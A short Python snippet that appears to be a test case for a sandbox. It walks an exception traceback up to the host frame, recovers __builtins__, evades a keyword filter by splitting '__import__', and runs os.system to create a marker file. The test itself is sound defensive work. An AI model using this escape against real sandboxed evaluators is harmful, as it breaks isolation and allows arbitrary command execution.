# escape: an exception's traceback leads to the outermost host frame (the shared 30_traceback_frame, either form of __builtins__)
# effect: marker
try:
    1 / 0
except ZeroDivisionError as e:
    f = e.__traceback__.tb_frame
    while f.f_back is not None:
        f = f.f_back
    b = f.f_globals["__builtins__"]
    imp = b["__import__"] if isinstance(b, dict) else getattr(b, "__imp" + "ort__")
    imp("os").system("touch {marker}")
return "done"
